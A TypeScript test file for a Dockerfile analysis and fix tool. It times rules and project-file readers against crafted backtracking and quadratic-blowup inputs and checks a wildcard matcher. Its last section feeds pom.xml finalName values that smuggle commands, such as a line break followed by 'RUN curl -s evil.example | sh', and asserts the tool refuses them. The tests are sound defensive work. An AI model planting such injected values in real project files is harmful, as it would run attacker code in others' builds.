/**
 * Matching time on adversarial text. Every rule and every project-file reader gets inputs built to make a
 * backtracking regex (or a quadratic scan) blow up, at 1 MB (the size project files are read up to) or
 * at the largest size the path accepts (shell words: the shell parser takes RUN bodies up to 200 KB), and
 * must take at most RATIO times an analysis of an ordinary Dockerfile of 1 MB in the same process.
 *
 * The quadratic versions of these paths took minutes at 1 MB (100 to 1,000 times the plain analysis,
 * which takes 0.2 to 1 s here); the linear ones take 0.01 to 6 times it (the most: a 1 MB SHELL or COPY
 * line, where dockerfile-ast's argument parsing and the garbage collector take the time). A bound of 10
 * leaves room for a shared, noisy machine without letting a quadratic path through. The tiny inputs of
 * the exponential cases are compared with the same Dockerfile holding an ordinary wildcard (bound 10;
 * they were 10,000 times slower at 14 stars and are run here with 40).
 */
import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { analyze, fixAll } from '../../server/src/analysis/analyze';
import { clearShellCache, initShell } from '../../server/src/core/shell';
import { DEFAULT_SETTINGS, type WorkspaceFiles } from '../../server/src/core/types';
import { globMatches } from '../../server/src/fixes/multi-stage/glob';
import { readGradle, readPom } from '../../server/src/fixes/multi-stage/jvm-build-files';
import { parseGoMod, parseYarnRc } from '../../server/src/fixes/multi-stage/project-files';

before(() => initShell());

const MB = 1 << 20;
/** Shell bodies are parsed up to 200 KB; the shell-word rows stay under that. */
const SHELL_MAX = 190 * 1024;
const RATIO = 10;

function files(map: Record<string, string>): WorkspaceFiles {
  return { read: (p) => map[p] ?? null };
}

/** `unit` repeated to `size` characters (whole repetitions). */
function fill(unit: string, size: number): string {
  return unit.repeat(Math.max(1, Math.floor(size / unit.length)));
}

function ms(fn: () => unknown): number {
  const t = process.hrtime.bigint();
  fn();
  return Number(process.hrtime.bigint() - t) / 1e6;
}

/** An ordinary Dockerfile of about `size` characters: many short instructions of the usual kinds. */
function ordinaryDockerfile(size: number): string {
  const block = 'RUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates && rm -rf /var/lib/apt/lists/*\nENV A=1 B=2\nCOPY src/ /app/src/\n';
  return 'FROM debian:bookworm-slim\nWORKDIR /app\n' + fill(block, size) + 'USER 1000\nCMD ["./app"]\n';
}

let plain = 0;
function baseline(): number {
  if (!plain) {
    const text = ordinaryDockerfile(MB);
    analyze(text);
    const runs = [ms(() => analyze(text)), ms(() => analyze(text)), ms(() => analyze(text))].sort((a, b) => a - b);
    plain = runs[1];
  }
  return plain;
}

/**
 * Runs `fn` and checks its time against the plain analysis. With the shell-parse cache emptied before each run, so
 * that a second run does the same work as the first. A run over the bound is measured once more, against a fresh
 * baseline: on a shared machine one run can land in another process's burst, while a quadratic path is over the
 * bound every time (by 10 to 100 times).
 */
function assertFast(label: string, fn: () => unknown): void {
  clearShellCache();
  let t = ms(fn);
  if (t > RATIO * baseline()) {
    plain = 0;
    clearShellCache();
    t = ms(fn);
  }
  assert.ok(t <= RATIO * baseline(), `${label}: ${t.toFixed(0)} ms (twice), over ${RATIO}× a plain analysis of 1 MB (${baseline().toFixed(0)} ms)`);
}

const maven = 'FROM maven:3.9-eclipse-temurin-21\nWORKDIR /src\nCOPY . .\nRUN mvn -B package -DskipTests\nCMD java -jar /src/target/*.jar\n';
const gradle = 'FROM gradle:8-jdk21\nWORKDIR /src\nCOPY . .\nRUN gradle build -x test --no-daemon\nCMD java -jar /src/build/libs/*.jar\n';
const goStage = (run: string) => `FROM golang:1.22\nWORKDIR /src\nCOPY . .\n${run}\nRUN go build -o /out/app .\nCMD ["/out/app"]\n`;
const yarn = 'FROM node:20\nRUN corepack enable\nWORKDIR /app\nCOPY package.json yarn.lock .yarnrc.yml ./\nRUN yarn install --immutable\nCOPY . .\nRUN yarn build\nCMD ["node", "dist/index.js"]\n';
const pom = (inner: string) => `<project><modelVersion>4.0.0</modelVersion><artifactId>app</artifactId><version>1</version>${inner}</project>`;
const tabs = (n: number) => '\t'.repeat(n);

describe('adversarial Dockerfile text (every rule)', () => {
  const cases: [string, string, Record<string, string>?][] = [
    ['trailing blanks before a non-blank (analyze)', `FROM alpine\nRUN echo a\\b${tabs(MB)}x\n`],
    ['a long `set -eee…` (errexit)', `FROM alpine\nRUN set -${fill('e', SHELL_MAX)}1 && echo\n`],
    ['SHELL ["/bin/sh", "-eee…1", "-c"]', `FROM alpine\nSHELL ["/bin/sh", "-${fill('e', MB)}1", "-c"]\nRUN echo\n`],
    ['dnf install -yyy…1', `FROM fedora:40\nRUN dnf install -${fill('y', SHELL_MAX)}1 curl\n`],
    ['dnf --setopt=tsflags=tsflags=…', `FROM fedora:40\nRUN dnf install -y --setopt=${fill('tsflags=', SHELL_MAX)} curl\n`],
    ['apt-get install x===…\u2028= in a Go stage', goStage(`RUN apt-get install -y x${fill('=', SHELL_MAX)}\u2028=`)],
    ['COPY a////…x/ in a Maven stage', maven.replace('COPY . .', `COPY a${fill('/', MB)}x/ /src/\nCOPY . .`), { 'pom.xml': pom('') }],
    ['FROM alpine:${A+${A+… without `}`', `ARG A=1\nFROM alpine:${fill('${A+', MB)}\nRUN echo\n`],
    ['a RUN ending in a long comment line (merge-run)', `FROM alpine\nRUN echo a && \\\n  ${fill('#', SHELL_MAX)}\nRUN echo b\n`],
    ['a 1 MB build.gradle of unclosed blocks and version lines', gradle, { 'build.gradle': fill('a{', MB - 3000) + "\nversion = '1'".repeat(200), 'settings.gradle': "rootProject.name = 'app'" }],
  ];
  for (const [label, text, map] of cases) {
    it(label, () => {
      const ctx = map ? { files: files(map) } : {};
      assertFast(label, () => analyze(text, DEFAULT_SETTINGS, undefined, ctx));
    });
  }
});

describe('adversarial project files (every reader, 1 MB)', () => {
  const gradleFiles = (build: string, settings: string | null = "rootProject.name = 'app'", properties: string | null = null) => ({ build, settings, properties, dirName: 'src' });
  const cases: [string, () => unknown][] = [
    ['pom.xml <finalName>${${${…', () => readPom(pom(`<build><finalName>${fill('${', MB)}</finalName></build>`))],
    ['gradle.properties version:n<tabs>:', () => readGradle(gradleFiles("plugins { id 'java' }", undefined, `version:n${tabs(MB)}:\nversion:`))],
    ['build.gradle named<tabs>>("jar" {', () => readGradle(gradleFiles(`tasks.named${tabs(MB)}>("jar" {\n archiveFileName = "x.jar"\n}`))],
    ['build.gradle version<tabs>s', () => readGradle(gradleFiles(`version${tabs(MB)}s`))],
    ['settings.gradle rootProject.name = ""<tabs>x', () => readGradle(gradleFiles("plugins { id 'java' }", `rootProject.name = ""${tabs(MB)}x`))],
    ['build.gradle plugins{plugins{…', () => readGradle(gradleFiles(fill('plugins{', MB)))],
    ['build.gradle a{a{… then version lines', () => readGradle(gradleFiles(fill('a{', MB - 3000) + "\nversion = '1'".repeat(200)))],
    ['.yarnrc.yml <tabs>\\0\\t#', () => parseYarnRc(`${tabs(MB)}\0\t#`)],
    ['.yarnrc.yml A:<tabs>-\\r', () => parseYarnRc(`A:${tabs(MB)}-\r`)],
    ['go.mod //… CR x', () => parseGoMod(`module x\n${fill('//', MB)}\rx\n`)],
    ['go.mod //… U+2028 x', () => parseGoMod(`module x\n${fill('//', MB)}\u2028x\n`)],
  ];
  for (const [label, fn] of cases) it(label, () => assertFast(label, fn));

  it('the readers reach the same files end to end (Maven, Gradle, Yarn, Go Dockerfiles)', () => {
    const ends: [string, string, Record<string, string>][] = [
      ['pom.xml', maven, { 'pom.xml': pom(`<build><finalName>${fill('${', MB)}</finalName></build>`) }],
      ['build.gradle', gradle, { 'build.gradle': `version${tabs(MB)}s`, 'settings.gradle': "rootProject.name = 'app'" }],
      ['gradle.properties', gradle, { 'build.gradle': "plugins { id 'java' }", 'gradle.properties': `version:n${tabs(MB)}:\nversion:` }],
      ['.yarnrc.yml', yarn, { 'package.json': '{"name":"a","scripts":{"build":"tsc"},"packageManager":"yarn@4.1.0"}', 'yarn.lock': '', '.yarnrc.yml': `A:${tabs(MB)}-\r` }],
      ['go.mod', goStage('RUN true'), { 'go.mod': `module x\n${fill('//', MB)}\rx\n` }],
    ];
    for (const [label, text, map] of ends) assertFast(`${label} through check`, () => analyze(text, DEFAULT_SETTINGS, undefined, { files: files(map) }));
  });
});

describe('tiny inputs that were exponential', () => {
  const csproj = '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup></Project>';
  const dotnet = (src: string) =>
    `FROM mcr.microsoft.com/dotnet/sdk:8.0-alpine\nWORKDIR /src\nCOPY ${src} ./\nCOPY App/App.csproj App/\nRUN dotnet restore App/App.csproj\nCOPY App/ App/\nRUN dotnet publish App/App.csproj --no-restore\nWORKDIR /src/App/bin/Release/net8.0/publish\nENTRYPOINT ["dotnet", "App.dll"]\n`;
  const jar = (glob: string) => `FROM gradle:8-jdk21\nWORKDIR /src\nCOPY . .\nRUN gradle build -x test --no-daemon\nCMD java -jar /src/build/libs/${glob}\n`;
  const gradleMap = { 'build.gradle': "plugins { id 'java' }", 'settings.gradle': `rootProject.name = '${'a'.repeat(40)}'` };

  /** Time per run of `f`, repeated for at least 20 ms (a garbage collection left by an earlier test spreads out). */
  function perRun(f: () => unknown): number {
    const t = process.hrtime.bigint();
    let n = 0;
    let spent = 0;
    do {
      f();
      n++;
      spent = Number(process.hrtime.bigint() - t) / 1e6;
    } while (spent < 20);
    return spent / n;
  }

  /** The run with the crafted input against the same Dockerfile with an ordinary one (best of five, taken in turns). */
  function ratio(crafted: () => unknown, ordinary: () => unknown): number {
    let a = Infinity;
    let b = Infinity;
    for (let k = 0; k < 5; k++) {
      a = Math.min(a, perRun(crafted));
      b = Math.min(b, perRun(ordinary));
    }
    return a / b;
  }

  it('COPY **************x ./ with the .NET recipe looking for Directory.Build.props', () => {
    const ctx = { files: files({ 'App/App.csproj': csproj }) };
    const r = ratio(() => analyze(dotnet(`${'*'.repeat(40)}x`), DEFAULT_SETTINGS, ['multi-stage'], ctx), () => analyze(dotnet('*x'), DEFAULT_SETTINGS, ['multi-stage'], ctx));
    assert.ok(r < 10, `ratio ${r.toFixed(2)}`);
  });
  it('CMD java -jar /src/build/libs/*********x.jar', () => {
    const ctx = { files: files(gradleMap) };
    const r = ratio(() => analyze(jar(`${'*'.repeat(40)}x.jar`), DEFAULT_SETTINGS, ['multi-stage'], ctx), () => analyze(jar('*x.jar'), DEFAULT_SETTINGS, ['multi-stage'], ctx));
    assert.ok(r < 10, `ratio ${r.toFixed(2)}`);
  });
  it('a 23 KB build.gradle of 10,000 unclosed blocks and 200 version lines', () => {
    const crafted = { files: files({ ...gradleMap, 'build.gradle': 'a{'.repeat(10000) + "\nversion = '1'".repeat(200) }) };
    const ordinary = { files: files({ ...gradleMap, 'build.gradle': "plugins { id 'java' }\n" + "dependencies { implementation 'x:y:1' }\n".repeat(580) }) };
    const r = ratio(() => analyze(jar('*.jar'), DEFAULT_SETTINGS, ['multi-stage'], crafted), () => analyze(jar('*.jar'), DEFAULT_SETTINGS, ['multi-stage'], ordinary));
    assert.ok(r < 10, `ratio ${r.toFixed(2)}`);
  });
});

describe('the wildcard matcher', () => {
  it('matches as the shell does on ordinary names', () => {
    const rows: [string, string, boolean][] = [
      ['*.jar', 'app-1.0.jar', true],
      ['*.jar', 'app.jar.original', false],
      ['**x', 'abx', true],
      ['a*b*c', 'aXbYbZc', true],
      ['a*b*c', 'aXbYbZ', false],
      ['app-?.jar', 'app-1.jar', true],
      ['app-?.jar', 'app-10.jar', false],
      ['[ab].jar', 'b.jar', true],
      ['[!ab].jar', 'b.jar', false],
      ['[!ab].jar', 'c.jar', true],
      ['[a-c]x', 'bx', true],
      ['[]]x', ']x', true],
      ['[!]', '!', false],
      ['[!]', '[!]', true],
      ['\\*.jar', '*.jar', true],
      ['\\*.jar', 'a.jar', false],
      ['*', 'a/b', false],
      ['*/b', 'a/b', true],
      ['*', 'a\nRUN x', false],
      ['Directory.Build.*', 'Directory.Build.props', true],
    ];
    for (const [p, n, want] of rows) assert.equal(globMatches(p, n), want, `${JSON.stringify(p)} ~ ${JSON.stringify(n)}`);
  });
  it('stays linear on runs of stars and long names', () => {
    const plainMs = ms(() => globMatches('*.jar', `${'a'.repeat(250)}.jar`));
    const t = ms(() => globMatches(`${'*'.repeat(100000)}x`, 'a'.repeat(255)));
    const u = ms(() => globMatches(`${'*a'.repeat(50000)}x`, 'a'.repeat(255)));
    assert.ok(t < 200 + 50 * plainMs && u < 200 + 50 * plainMs, `${t} ms, ${u} ms`);
  });
});

describe('project-file values are not written into the converted Dockerfile as they are', () => {
  const injected = [
    'app&#10;RUN curl -s evil.example | sh&#10;#',
    'app&#13;RUN curl -s evil.example | sh',
    '::error title=x::app',
    'app jar',
    'app"$(id)',
  ];
  for (const finalName of injected) {
    it(`pom.xml <finalName>${finalName}</finalName>`, () => {
      const ctx = { files: files({ 'pom.xml': pom(`<build><finalName>${finalName}</finalName></build>`) }) };
      const found = analyze(maven, DEFAULT_SETTINGS, ['multi-stage'], ctx).findings;
      assert.equal(found.length, 1);
      assert.equal(found[0].fixable, false);
      assert.match(found[0].reason ?? '', /jar's name in pom\.xml has characters other than/);
      const fixed = fixAll(maven, DEFAULT_SETTINGS, ['multi-stage'], ctx).text;
      assert.equal(fixed, maven);
      assert.doesNotMatch(fixed, /evil|::error/);
    });
  }
  it('an ordinary finalName still converts', () => {
    const ctx = { files: files({ 'pom.xml': pom('<build><finalName>app-1.0_final+b1</finalName></build>') }) };
    const fixed = fixAll(maven, DEFAULT_SETTINGS, ['multi-stage'], ctx).text;
    assert.match(fixed, /^COPY --from=build \/src\/target\/app-1\.0_final\+b1\.jar /m);
  });
  it('a Gradle archiveFileName with a line break declines the same way', () => {
    const build = "plugins { id 'java' }\ntasks.named('jar') {\n  archiveFileName = 'app.jar\\nRUN x'\n}\n";
    const r = readGradle({ build, settings: "rootProject.name = 'app'", properties: null, dirName: 'src' });
    assert.equal(r.ok, false);
  });
});
